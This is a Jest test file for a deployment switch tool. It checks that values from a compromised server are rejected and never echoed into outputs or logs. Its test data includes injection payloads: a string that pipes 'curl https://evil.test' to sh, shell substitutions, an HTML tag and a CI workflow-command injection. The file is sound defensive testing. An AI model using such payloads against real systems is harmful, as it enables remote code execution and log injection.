import { afterEach, expect, jest, test } from '@jest/globals';
import { lyingSession } from '@deploy-actions/host/testing';
import { shopsForEach } from '@deploy-actions/traffic/testing';
import { switchRig } from './testing/switch-rig.ts';

// Real processes on a busy machine.
jest.setTimeout(120_000);

const shopsWith = shopsForEach(afterEach);

// A server that somebody has taken over writes what it likes: nothing of it becomes an output before it has its form.

test.each([
  ['release', 'x"; curl https://evil.test | sh; "'],
  ['from', 'blue"; id'],
  ['switched_at', '$(date)'],
  ['gates', 'green-25 1 2 3 <img/src=x>\n::error::x;'],
])('a server that tells %s of another form is told of as damaged', async (name, value) => {
  const { servers, connect } = await shopsWith(['web1']);
  const rig = switchRig({
    servers,
    connect: async (server) => lyingSession(await connect(server), { [name]: value }),
  });
  await servers.web1.putColors();
  const { failure, outputs, ports, log } = await rig.go();
  expect(failure).toMatchObject({ kind: 'lost' });
  expect(failure!.message).toContain(`"${name}" in its result is not `);
  const told = [failure!.message, failure!.remedy, JSON.stringify(outputs), log, ...ports.summaries].join(
    '\n',
  );
  expect(told).not.toContain(value);
});
